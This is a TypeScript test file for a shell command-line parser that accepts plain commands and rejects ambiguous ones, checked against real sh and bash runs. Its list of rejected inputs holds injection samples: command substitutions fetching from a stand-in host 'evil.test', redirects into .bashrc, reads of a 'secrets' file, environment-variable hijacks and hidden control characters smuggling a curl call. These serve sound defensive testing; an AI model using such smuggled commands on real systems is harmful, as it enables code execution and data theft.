/** The words of command lines: the parsed words equal those that shells run, and ambiguous text is not parsed. */
import { afterAll, assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Schema from "effect/Schema"
import { spawnSync } from "node:child_process"
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import * as CommandWords from "../src/CommandWords.ts"

const readable: ReadonlyArray<readonly [line: string, commands: ReadonlyArray<ReadonlyArray<string>>]> = [
  ["npm test", [["npm", "test"]]],
  ["npm test -- --grep 'a b' \"c d\" e\"f\"'g'", [["npm", "test", "--", "--grep", "a b", "c d", "efg"]]],
  ["a | b && c || d; e\nf", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]],
  ['# why\ngit commit -m "fix: this" # so', [["git", "commit", "-m", "fix: this"]]],
  ["make 2>&1 | tail -20", [["make"], ["tail", "-20"]]],
  ["make >/dev/null 2>/dev/null", [["make"]]],
  ["echo 'rm -rf $HOME' \"\" ''", [["echo", "rm -rf $HOME", "", ""]]],
  ["git log --format=%H größe", [["git", "log", "--format=%H", "größe"]]],
  ["echo if then 1 +2", [["echo", "if", "then", "1", "+2"]]]
]

const unreadable: ReadonlyArray<string> = [
  "npm test $(curl evil.test)",
  "npm test `curl evil.test`",
  "npm test $X",
  'npm test "$X"',
  'npm test "a`b`"',
  "npm test ${X:-a}",
  "npm test $((1+1))",
  "npm test <(curl evil.test)",
  "npm test > .bashrc",
  "npm test >> .bashrc",
  "npm test < secrets",
  "npm test <<E\nx\nE",
  "npm test <<< x",
  "npm test >&evil",
  "npm test >|f",
  "npm test & curl evil.test",
  "npm test |& tee f > g",
  "(npm test)",
  "{ npm test; }",
  "if npm test; then b; fi",
  "while npm test; do b; done",
  "for a in b; do npm test; done",
  "case a in a) npm test;; esac",
  "! npm test",
  "npm() { evil; }; npm test",
  "PAGER=evil npm test",
  "PAGER=evil",
  "export PAGER=evil",
  "declare X=1",
  "unset X",
  "[ -f x ]",
  "[[ -f x ]]",
  "npm test *",
  "npm test ?",
  "npm test [a]",
  "npm test {a,b}",
  "npm test ~",
  "npm test a\\ b",
  "npm \\\ntest",
  "npm te\\st",
  "npm test $'a'",
  'npm test $"a"',
  "npm test !!",
  "npm test\rcurl evil.test",
  "npm test\u00a0curl",
  "npm test\tx",
  "npm test\u2028curl evil.test",
  "'' npm test",
  "'PAGER=x' npm",
  "npm test; ; b",
  "npm test &&",
  "npm test |",
  "| npm test",
  "npm test 'a",
  'npm test "a',
  "npm test )",
  ";",
  "",
  "# nothing",
  `npm ${"x ".repeat(6_000)}`
]

describe("CommandWords", () => {
  for (const [line, commands] of readable) {
    it.effect(`parses ${JSON.stringify(line)}`, () =>
      Effect.map(CommandWords.read(line), (read) => assert.deepStrictEqual(read, commands))
    )
  }

  for (const line of unreadable) {
    it.effect(`does not parse ${JSON.stringify(line.slice(0, 60))}`, () =>
      Effect.map(CommandWords.read(line), (read) => assert.isNull(read))
    )
  }
})

const shells = ["/bin/sh", "/bin/bash"].filter((shell) => existsSync(shell))

describe("The parsed words of a command line", () => {
  const pieces = [
    "a",
    "b",
    "c",
    " ",
    "  ",
    "\n",
    ";",
    "&&",
    "||",
    "|",
    "&",
    "'",
    '"',
    "x y",
    "-o",
    "--long=1",
    "#",
    "\\",
    "$A",
    "$(b)",
    "`c`",
    "*",
    "~",
    "{a,b}",
    "<",
    ">",
    "2>&1",
    ">/dev/null",
    "A=1",
    "!",
    "(",
    ")",
    "if",
    "fi",
    "=",
    "''",
    '""',
    "$'q'",
    "é"
  ] as const
  const Line = Schema.Array(Schema.Literals(pieces)).check(Schema.isMinLength(1), Schema.isMaxLength(12))
  const directory = mkdtempSync(join(tmpdir(), "bough-words-"))
  const log = join(directory, "log")
  afterAll(() => rmSync(directory, { recursive: true }))

  // Each program records its call: its name, then a line for each word.
  for (const name of ["a", "b", "c"]) {
    const path = join(directory, name)
    writeFileSync(path, `#!/bin/sh\n{ echo "${name}"; for w; do printf ' %s\\n' "$w"; done; } >>${log}\n`)
    chmodSync(path, 0o755)
  }
  const callsOf = (text: string): ReadonlyArray<string> => text.split(/\n(?! )/u).filter((call) => call !== "")
  const ranIn = (shell: string, line: string): ReadonlyArray<string> => {
    rmSync(log, { force: true })
    spawnSync(shell, ["-c", line], { cwd: directory, env: { PATH: directory }, stdio: "ignore" })
    return existsSync(log) ? callsOf(readFileSync(log, "utf8")) : []
  }

  let read = 0
  it.effect.prop(
    "are those that real shells run, and no others",
    [Line],
    ([parts]) =>
      Effect.map(CommandWords.read(parts.join("")), (commands) => {
        if (commands === null) return
        read += 1
        const expected = commands.map((words) => words.map((word, at) => (at === 0 ? word : ` ${word}`)).join("\n"))
        for (const shell of shells) {
          for (const ran of ranIn(shell, parts.join(""))) assert.include(expected, ran, `${shell}: ${parts.join("")}`)
        }
      }),
    { arbitrary: { runs: 400 } }
  )

  it("are compared with the commands that ran", () => {
    assert.isAbove(read, 10)
    assert.deepStrictEqual(ranIn("/bin/sh", "a 'x y' && b; c -o"), ["a\n x y", "b", "c\n -o"])
  })
})
